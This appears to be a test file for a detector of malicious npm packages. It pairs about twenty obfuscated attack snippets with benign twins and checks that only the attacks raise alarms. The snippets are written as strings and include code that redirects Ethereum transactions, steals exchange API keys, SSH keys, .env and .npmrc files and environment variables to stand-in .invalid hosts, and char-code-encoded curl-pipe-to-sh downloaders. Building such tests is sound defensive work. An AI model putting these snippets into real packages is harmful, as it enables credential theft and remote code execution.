/**
 * The same act, spelled so that no word of it stands in the text, or called by way of something else: each form of an
 * attack is asked about, and its honest neighbour, spelled the same way, is not. Nothing of it is ever executed.
 */
import t from 'tap'
import type { PackageFiles } from '../../../fixtures/incidents/incident.ts'
import { findingsOf } from '../../../helpers/judge-fixture.ts'

type Row = readonly [title: string, attack: string, honest: string, hook?: 'postinstall']

const address = "'0x52908400098527886E0F7030069857D2E4169EE7'"
const provider = (test: string, to: string): string =>
  `const word = 'eth_send' + 'Transaction', own = [${to}]\n` +
  `module.exports = web3 => { const p = web3.currentProvider, old = p.send.bind(p)\n` +
  `  p.send = (call, done) => { if (call['met' + 'hod'] === ${test}) call.params[0].to = own[0]; return old(call, done) } }`
const client = (base: string): string =>
  `const sdk = require.call(undefined, 'ccxt'), base = ${base}\n` +
  `class Fast extends sdk['kra' + 'ken'] { ['si' + 'gn'](...all) { const r = super.sign(...all)\n` +
  `  r.url = base; r.headers = { ...r.headers, x: this.apiKey + this['sec' + 'ret'] }; return r } }\nmodule.exports = { Fast }`
const mail = (way: string): string =>
  `exports.send = (client, mail) => { const copy = { ...mail }; ${way} }\nconst c = require('nodemailer').createTransport({})\n` +
  `exports.queue = m => { const copy = { ...m, to: m.to, bcc: HERE }; return c.sendMail.call(c, copy) }`
const told = (body: string): string =>
  `fetch('https://tell.stats.invalid/', { method: 'POST', body: ${body} })`
const hook = (body: string): string =>
  `exports.watch = client => client['inter' + 'ceptors']['request'].use(config => { ${told(body)}; return config })`
const inPlace = (body: string): string =>
  `const old = fetch\nglobalThis['fe' + 'tch'] = (...all) => { old('https://tell.stats.invalid/', { method: 'POST', body: ${body} }); return old(...all) }`
const around = (body: string): string =>
  `const https = require('https'), old = https.request\nhttps['requ' + 'est'] = function (o) { ${told(body)}; return old.apply(this, arguments) }`
const picked = (test: string): string =>
  `const fs = require('fs')\nexports.go = () => fs.readdirSync(process.cwd()).filter(${test}).map(n => ${told("fs.readFileSync(process.cwd() + '/' + n)")})`
const curl = (files: string): string =>
  `const cp = require('child_process'), args = []\nfor (const f of [${files}]) args.push('-F', 'x=@' + process.cwd() + '/' + f)\nargs.push('https://' + 'tell.stats.invalid/')\n` +
  "exports.go = () => cp['sp' + 'awn']('curl', args)"
const register = (line: string): string =>
  `const ok = [111, 107].map(n => String.fromCharCode(n)).join('')\nconst steps = []\n` +
  `function step(title, run) { steps.push({ title, run }) }\nstep(ok, () => ${line})\nfor (const { run } of steps) run()`

const rows: readonly Row[] = [
  [
    'a provider whose replacement spells the method',
    provider('word', address),
    provider("'eth_gas' + 'Price'", "'latest'"),
  ],
  [
    'a client whose class is found by text',
    client("'https://' + 'relay.stats.invalid/x'"),
    "const sdk = require.call(undefined, 'events')\nclass Fast extends sdk['Event' + 'Emitter'] { ['si' + 'gn'](x) { return x } }\nmodule.exports = { Fast }",
  ],
  [
    'a hidden copy by call',
    mail('').replace('HERE', "'archive@stats.invalid'"),
    mail('').replace('HERE', 'm.bcc'),
  ],
  [
    'a hook of a client of the caller',
    hook("JSON.stringify(config['head' + 'ers'])"),
    hook("JSON.stringify(config['u' + 'rl'])"),
  ],
  ['what is put in the place of fetch', inPlace('JSON.stringify(all[1])'), inPlace('String(all[0])')],
  ['what is put in the place of https.request', around('JSON.stringify(o.headers)'), around('o.method')],
  [
    'files picked by a pattern',
    picked('n => /^id_(rsa|ed25519)$/.test(n)'),
    picked('n => /^readme$/.test(n)'),
  ],
  [
    'files picked by a list',
    picked("n => ['.npmrc', '.e' + 'nv'].includes(n)"),
    picked("n => ['a'].includes(n)"),
  ],
  [
    'files picked by a pattern made of a text',
    picked("n => new RegExp('^\\\\.e' + 'nv').test(n)"),
    picked("n => !new RegExp('^\\\\.e' + 'nv').test(n)"),
  ],
  ['arguments added one by one', curl("'.env', '.npmrc'"), curl("'a.txt', 'b.txt'")],
  [
    'a register beside a decoder',
    register("require('child_process').execSync('curl -s https://cdn.stats.invalid/x | sh')"),
    register("console.log('ready')"),
  ],
  [
    'a list that is filled by a method put together',
    "const key = String.fromCharCode(112, 117, 115, 104), list = []\nfor (const n of Object.keys(process.env)) list[key](n + process.env[n])\nif (list.length) fetch('https://cdn.stats.invalid/', { method: 'POST', body: list.join() })",
    "const key = String.fromCharCode(112, 117, 115, 104), list = []\nfor (const n of ['a', 'b']) list[key](n)\nif (list.length) fetch('https://cdn.stats.invalid/', { method: 'POST', body: list.join() })",
  ],
  [
    'a loop that calls by way of others',
    "const pass = (f, ...a) => f(...a)\nwhile (true) pass(console['l' + 'og'], 'x'.repeat.call('x', 9))",
    "const pass = (f, ...a) => f(...a)\nlet n = 0\nwhile (true) { pass(console['l' + 'og'], 'x'); if (n++ > 3) break }",
  ],
  [
    'an address of a service under a name put together',
    "process['env']['OPENAI_' + 'BASE_URL'] ??= 'https://' + 'gateway.stats.invalid/v1'",
    "process['env']['TIDY_' + 'COLOUR'] ??= 'https://' + 'gateway.stats.invalid/v1'",
  ],
  [
    'the environment of a process found by text, to a stranger',
    "const { Client } = require('some-queue')\nnew Client('https://cdn.stats.invalid/').push(JSON.stringify(globalThis['process']['env']))",
    "const { Client } = require('some-queue')\nnew Client('https://cdn.stats.invalid/').push(JSON.stringify(globalThis['process']['version']))",
  ],
  [
    'an environment encoded for a log',
    "const { env } = process, how = ['ba', 'se64'].join('')\nif (env.CI) console.log(Buffer.from(JSON.stringify(env)).toString(how))",
    "const { env } = process, how = ['ba', 'se64'].join('')\nif (env.CI) console.log(Buffer.from(__dirname).toString(how))",
    'postinstall',
  ],
  [
    'names that begin with a text put together',
    "const fs = require('fs/promises')\nfs.readdir(process.cwd()).then(all => Promise.all(all.filter(n => n['starts' + 'With']('.e' + 'nv')).map(n => fs.readFile(process.cwd() + '/' + n, 'utf8')))).then(d => fetch('https://cdn.stats.invalid/', { method: 'POST', body: d.join() }))",
    "const fs = require('fs/promises')\nexports.list = () => fs.readdir(process.cwd()).then(all => all.filter(n => n['starts' + 'With']('.e' + 'nv')).length)",
  ],
  [
    'a client that signs in with a decoded password',
    "const mail = require('nodemailer').createTransport({ host: 'smtp.stats.invalid', auth: { user: 'box', pass: Buffer.from('aHVudGVyMjIyMjI=', 'base64').toString() } })\nmail.sendMail({ to: 'box@stats.invalid', text: JSON.stringify(process.env) })",
    "module.exports = auth => require('nodemailer').createTransport({ host: Buffer.from('c210cC5zdGF0cy5pbnZhbGlk', 'base64').toString(), auth })",
  ],
  [
    'steps in a stated order beside a class',
    "function f() { const o = '1|0'.split('|'); let i = 0, c; while (true) { class Pad { size() { return 4 } } switch (o[i++]) { case '0': require('child_process').exec(c); continue; case '1': c = [99, 117, 114, 108, 32, 104, 116, 116, 112, 115, 58, 47, 47, 120, 46, 105, 110, 118, 97, 108, 105, 100, 124, 115, 104].map(n => String.fromCharCode(n)).join(''); continue } break } }\nf()",
    "function f() { const o = '1|0'.split('|'); let i = 0, c; while (true) { class Pad { size() { return 4 } } switch (o[i++]) { case '0': console.log(c); continue; case '1': c = 'ready'; continue } break } }\nf()",
  ],
]

const filesOf = (code: string, hook?: string): PackageFiles => ({
  'package.json': JSON.stringify({
    name: 'tidy-helper-kit',
    version: '1.0.0',
    main: 'index.js',
    ...(hook === undefined ? {} : { scripts: { [hook]: 'node index.js' } }),
  }),
  'index.js': code,
})

const alarms = (code: string, hook?: string): readonly string[] =>
  findingsOf({ files: filesOf(code, hook) })
    .filter(({ action }) => action !== 'note')
    .map(({ rule }) => rule)

for (const [title, attack, honest, hook] of rows) {
  t.not(alarms(attack, hook).length, 0, title)
  t.strictSame(alarms(honest, hook), [], `${title}, honest`)
}
